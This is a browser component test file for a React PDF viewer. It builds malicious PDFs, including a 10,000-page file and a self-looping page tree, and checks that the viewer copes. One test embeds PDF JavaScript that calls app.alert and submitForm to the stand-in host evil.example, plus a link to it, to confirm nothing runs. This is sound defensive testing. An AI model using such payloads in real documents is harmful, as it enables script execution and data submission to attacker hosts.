import { onTestFinished, vi } from 'vitest';
import { page, userEvent } from 'vitest/browser';
import { render } from 'vitest-browser-react';
import { expect, press, test } from '../../kit/testing/component-test.ts';
import PdfViewer from './PdfViewer.tsx';

// documents.md 11: PDF that somebody made to do harm.

/** A PDF of these objects, numbered from 1; the first one is its catalog. */
function pdfOf(objects: readonly string[], trailer = ''): string {
  let file = '%PDF-1.7\n';
  const offsets = objects.map((object, n) => {
    const at = file.length;
    file += `${n + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(at).padStart(10, '0')} 00000 n \n`;
  });
  const size = objects.length + 1;
  const table = `xref\n0 ${size}\n0000000000 65535 f \n${offsets.join('')}`;
  return `${file}${table}trailer\n<< /Size ${size} /Root 1 0 R ${trailer} >>\nstartxref\n${file.length}\n%%EOF\n`;
}
const CATALOG = '<< /Type /Catalog /Pages 2 0 R >>';
const pages = (kids: string, count: number) => `<< /Type /Pages /Kids [${kids}] /Count ${count} >>`;
const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';
const words = (text: string) => {
  const stream = `BT /F1 20 Tf 20 100 Td (${text}) Tj ET`;
  return `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`;
};
const pageOf = (contents: number, font: number, more = '') =>
  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Contents ${contents} 0 R
     /Resources << /Font << /F1 ${font} 0 R >> >> ${more} >>`;

async function show(pdf: string): Promise<void> {
  const url = URL.createObjectURL(new Blob([pdf], { type: 'application/pdf' }));
  onTestFinished(() => URL.revokeObjectURL(url));
  await render(<PdfViewer url={url} name="form.pdf" />);
}
const drawn = () => expect.element(page.getByRole('img')).toHaveAttribute('aria-busy', 'false');

test('one of 10,000 pages shows one at a time, and the last one as soon as the first', async () => {
  const count = 10_000;
  const kids = Array.from({ length: count }, (_, n) => `${n + 6} 0 R`).join(' ');
  const all = Array.from({ length: count }, (_, n) => pageOf(n === count - 1 ? 5 : 4, 3));
  await show(
    pdfOf([CATALOG, pages(kids, count), FONT, words('one of many'), words('the last one'), ...all]),
  );
  await drawn();
  await expect.element(page.getByText('Page 1 of 10,000')).toBeVisible();
  const elements = document.querySelectorAll('*').length;
  await press(page, 'Next page');
  await userEvent.keyboard('{End}');
  await expect.element(page.getByText('Page 10,000 of 10,000')).toBeVisible();
  await expect.element(page.getByText('the last one')).toBeInTheDocument();
  expect(document.querySelectorAll('canvas')).toHaveLength(1);
  expect(document.querySelectorAll('*')).toHaveLength(elements);
});

test('one with script shows its page, runs nothing and leads nowhere', async () => {
  const [asked, opened] = [vi.spyOn(window, 'alert'), vi.spyOn(window, 'open')];
  const script =
    '<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://evil.example"\\)) >>';
  const link =
    '<< /Type /Annot /Subtype /Link /Rect [0 0 300 300] /A << /S /URI /URI (https://evil.example) >> >>';
  const catalog = `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script}
    /Names << /JavaScript << /Names [(a) ${script}] >> >> >>`;
  const one = pageOf(4, 3, `/AA << /O ${script} >> /Annots [${link}]`);
  await show(pdfOf([catalog, pages('5 0 R', 1), FONT, words('the form'), one]));
  await drawn();
  await expect.element(page.getByText('the form')).toBeInTheDocument();
  await userEvent.click(page.getByRole('img'));
  expect(document.querySelectorAll('a, iframe, embed, object, form')).toHaveLength(0);
  expect([asked, opened].map(({ mock }) => mock.calls)).toEqual([[], []]);
});

test.for([
  [
    'is locked with a password',
    pdfOf(
      [CATALOG, pages('3 0 R', 1), pageOf(4, 5), words('locked'), FONT],
      `/Encrypt << /Filter /Standard /V 1 /R 2 /P -44 /O <${'41'.repeat(32)}> /U <${'42'.repeat(32)}> >> /ID [<00> <00>]`,
    ),
    'It is locked with a password. Download it to open it.',
  ],
  [
    'has no pages but its own',
    pdfOf([CATALOG, pages('2 0 R', 1)]),
    'This page cannot be shown here. Download the PDF to see it.',
  ],
  ['is none', 'no PDF at all', 'It cannot be shown here. Download it to open it.'],
] as const)('one that %s says so', async ([, pdf, expected]) => {
  await show(pdf);
  await expect.element(page.getByText(expected)).toBeVisible();
});
